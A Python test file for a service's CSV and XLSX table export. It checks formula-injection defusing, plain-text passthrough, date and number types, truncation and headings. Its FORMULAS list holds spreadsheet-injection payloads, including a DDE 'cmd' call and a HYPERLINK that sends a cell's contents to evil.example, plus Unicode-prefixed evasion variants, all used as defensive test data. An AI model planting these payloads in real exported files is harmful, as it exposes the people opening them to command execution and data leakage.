"""Tables written as CSV and XLSX, and read back by libraries of others."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from service.messages.words import words
from service.sheets.columns import MOST_ROWS, Cell, Column, Sheet, Table, make_table
from service.sheets.csv_file import write_csv
from service.sheets.plain_cells import defuse, is_formula
from service.sheets.xlsx_file import write_xlsx

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
    "+46 8 123 456",
    "-5",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe661+1",
    "\ufe62 1",
    "\ufe631",
    "\ufe6bA1",
    "\u3000=1",
    "\u2060=1",
    "\u2028=1",
    "\x07=1+1",
)
"""Texts that a spreadsheet program would compute, or might."""

PLAIN = (
    "Hjärtsvikt i hemmet",
    "50 %",
    "a=b",
    "3-5 miljoner",
    "'citat'",
    "007",
    "1E5",
    "#N/A",
    "TRUE",
    "<b>",
    'sagt "ja", sedan; nej',
)
"""Texts that are shown as they are."""


def a_table(*rows: tuple[Cell, ...]) -> Table:
    width = len(rows[0]) if rows else 1
    heads = tuple(f"Rubrik {number}" for number in range(width))
    return Table("calls", "Utlysningar", heads, (20,) * width, rows, len(rows))


def opened(content: bytes) -> Any:
    """Return the sheet of a workbook."""
    return load_workbook(io.BytesIO(content)).active


def read_csv(content: bytes, **choices: str) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), **choices))  # type: ignore[arg-type]  # a dialect's choices


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_computed_is_text_in_a_csv_file(text: str) -> None:
    (_, (cell,)) = read_csv(write_csv(a_table((text,))))
    assert cell.startswith("'")
    assert not is_formula(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_computed_is_text_in_a_workbook(text: str) -> None:
    cell = opened(write_xlsx(a_table((text,))))["A2"]
    assert cell.data_type == "s"
    assert isinstance(cell.value, str)
    assert cell.quotePrefix, "and stays text when somebody edits it"


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_as_they_were(text: str) -> None:
    assert read_csv(write_csv(a_table((text,))))[1] == [text]
    cell = opened(write_xlsx(a_table((text,))))["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert not cell.quotePrefix


@pytest.mark.parametrize("text", ["a;=1+1", "Sök; -5 dagar", "b; @SUM(A1)", "c;\u200d=1"])
def test_no_cell_begins_within_a_text_where_semicolons_part_cells(text: str) -> None:
    content = write_csv(a_table(("x", text, "y")))
    cells = [cell for row in read_csv(content, delimiter=";") for cell in row]
    assert not [cell for cell in cells if is_formula(cell)]


def test_no_formula_stands_in_the_files_of_a_workbook() -> None:
    whole = zipfile.ZipFile(io.BytesIO(write_xlsx(a_table(*((text,) for text in FORMULAS)))))
    assert b"<f>" not in b"".join(whole.read(name) for name in whole.namelist())


def test_a_text_that_is_guarded_twice_is_guarded_once() -> None:
    assert defuse(defuse("=1")) == "'=1"


def test_days_are_days_and_numbers_are_numbers() -> None:
    row = (
        date(2026, 3, 14),
        datetime.fromisoformat("2026-03-14T14:00"),
        Decimal("12500000.50"),
        3,
        0.25,
        None,
    )
    table = a_table(row)
    assert read_csv(write_csv(table))[1] == [
        "2026-03-14",
        "2026-03-14 14:00",
        "12500000.50",
        "3",
        "0.25",
        "",
    ]
    day, minute, amount, count, share, nothing = opened(write_xlsx(table))[2]
    assert (day.value, day.is_date, day.number_format) == (
        datetime.fromisoformat("2026-03-14"),
        True,
        "yyyy-mm-dd",
    )
    assert (minute.value, minute.is_date) == (datetime.fromisoformat("2026-03-14T14:00"), True)
    assert (amount.value, count.value, share.value) == (12500000.5, 3, 0.25)
    assert amount.data_type == count.data_type == share.data_type == "n"
    assert nothing.value is None


@pytest.mark.parametrize("day", [date(1, 1, 1), date(1899, 12, 31), date(9999, 12, 31)])
def test_a_day_that_workbooks_do_not_know_is_text(day: date) -> None:
    cell = opened(write_xlsx(a_table((day,))))["A2"]
    assert cell.value == day.isoformat()


def test_what_no_file_can_hold_is_left_out() -> None:
    text = "a\x00b\x0bc\ud800d\uffffe" + "x" * 100_000
    (_, (cell,)) = read_csv(write_csv(a_table((text,))))
    assert cell.startswith("ab cde"), cell[:20]
    assert len(cell) <= 4_001, "and an ellipsis"
    assert opened(write_xlsx(a_table((text,))))["A2"].value == cell


def test_a_list_that_is_too_long_says_how_much_is_missing() -> None:
    sheet: Sheet[int] = Sheet(
        "calls", (Column("id", lambda one, _: one), Column("title", lambda one, _: str(one)))
    )
    table = make_table(sheet, range(MOST_ROWS), words("sv"), total=MOST_ROWS + 1234)
    assert len(table.rows) == MOST_ROWS + 1
    assert table.rows[-1] == ("… och 1\xa0234 rader till: gör urvalet snävare", None)
    whole = make_table(sheet, range(10), words("en"), total=10)
    assert len(whole.rows) == whole.total == 10
    assert whole.headings == ("Id", "Title")


def test_headings_stay_and_are_bold() -> None:
    sheet = opened(write_xlsx(a_table(("a", "b"))))
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet.title == "Utlysningar"
    assert sheet.column_dimensions["A"].width == 20
